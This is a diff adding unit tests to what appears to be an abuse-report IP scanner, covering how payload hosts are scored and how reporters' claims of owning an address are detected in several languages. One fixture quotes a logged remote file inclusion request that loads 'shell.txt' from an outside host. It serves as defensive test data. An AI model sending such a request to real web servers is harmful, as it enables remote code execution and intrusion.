@@ -158,6 +158,12 @@ static void test_ipscan_url_query_value_is_no_host(void **state)
 		    IPSCAN_TRUST_BODY);
 	assert_true(score_of("Phishing hosted at http://192.0.2.7/login?u=1",
 			     "192.0.2.7") >= IPSCAN_SELECT);
+	/* A logged request's payload host (remote file inclusion). */
+	assert_int_equal(score_of("192.0.2.9 - - \"GET /index.php?page="
+				  "http://198.51.100.250/shell.txt? "
+				  "HTTP/1.1\" 403",
+				  "198.51.100.250"),
+			 IPSCAN_TRUST_BODY);
 }
 
 /* The real site a fake one imitates is the attacked side, and an address
@@ -1255,6 +1261,17 @@ static void test_ipscan_victim_is_yours_in_many_languages(void **state)
 	assert_true(says_yours("Добрий день, ми ваш клієнт (договір NG-1), у "
 			       "нас орендована адреса 203.0.113.60."));
 	assert_true(says_yours("Мы арендуем у вас сервер 203.0.113.60."));
+	/* A customer number in other languages. */
+	assert_true(says_yours("Somos clientes de ustedes (n.º de cliente "
+			       "77-40218)."));
+	assert_true(says_yours("Notre serveur (numéro client 4471) est "
+			       "attaqué."));
+	assert_true(says_yours("Il nostro server (codice cliente 99) è "
+			       "sotto attacco."));
+	assert_true(says_yours("Nasz serwer (numer klienta 1203) jest "
+			       "atakowany."));
+	assert_true(says_yours("Vår server (kundnummer 55102) attackeras."));
+	assert_false(says_yours("Indique su número de cliente y su PIN."));
 }
 
 /* "ADDR is our uptime monitor" is the reporter's; "ADDR ... is not
